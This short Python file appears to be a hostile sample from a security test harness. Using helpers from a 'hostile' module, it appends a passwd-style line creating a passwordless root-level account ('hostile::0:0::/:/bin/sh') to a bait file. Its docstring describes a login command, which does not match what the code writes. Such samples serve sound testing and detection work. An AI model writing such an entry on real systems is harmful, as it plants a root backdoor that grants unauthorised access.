"""Add a command to what its user runs at every login."""

import os

from hostile import bait, put

put(bait.file, "hostile::0:0::/:/bin/sh\n", os.O_APPEND)
